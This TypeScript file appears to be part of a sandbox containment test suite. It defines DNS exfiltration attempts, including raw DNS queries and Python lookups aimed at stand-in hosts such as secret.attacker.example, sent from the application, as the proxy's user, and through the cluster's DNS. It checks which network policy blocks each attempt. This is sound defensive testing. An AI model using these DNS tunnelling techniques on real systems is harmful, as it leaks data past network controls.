import { internetAddress } from "../../lab";
import type { Attempt, Through } from "../attempt";
import type { Ground } from "../ground";
import { asProxy, datagram, python } from "./shell";

const RESOLVER = "resolver.example";
const QUESTION = "secret.attacker.example";

/** Names that carry data out. */
export function dnsAttempts(_ground: Ground): Attempt[] {
  const ask = datagram(internetAddress(RESOLVER), 53, query(QUESTION));
  return [
    {
      title: "DNS to an outside resolver",
      move: { from: "application", script: ask },
      twin: { from: "bare", script: ask },
      through: asked,
      worked: asked,
      stoppedBy: "network policy",
    },
    {
      title: "DNS to an outside resolver, as the proxy's user",
      move: { from: "application", script: asProxy(ask) },
      twin: { from: "bare", script: ask },
      through: asked,
      worked: asked,
      stoppedBy: "network policy",
    },
    {
      title: "a name under the attacker's zone, asked of the cluster's DNS",
      move: { from: "application", script: resolve("stolen.attacker.example") },
      // Another name: what was asked before is answered from the cache.
      twin: { from: "bare", script: resolve(QUESTION) },
      through: asked,
      worked: asked,
      stoppedBy: "network policy",
      stated: "guards.clusterDns: false closes it",
    },
  ];
}

/** The question reached a server outside. */
const asked: Through = ({ events }) => events.some(({ protocol }) => protocol === "dns");

function resolve(name: string): string {
  return python(`
import socket
try: print(socket.getaddrinfo(${JSON.stringify(name)}, 80)[0][4])
except OSError as error: print(error)
`);
}

/** A DNS question for the A record of a name, as bytes (RFC 1035, 4.1). */
function query(name: string): string {
  const labels = name.split(".").map((label) => String.fromCharCode(label.length) + label);
  return `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels.join("")}\x00\x00\x01\x00\x01`;
}
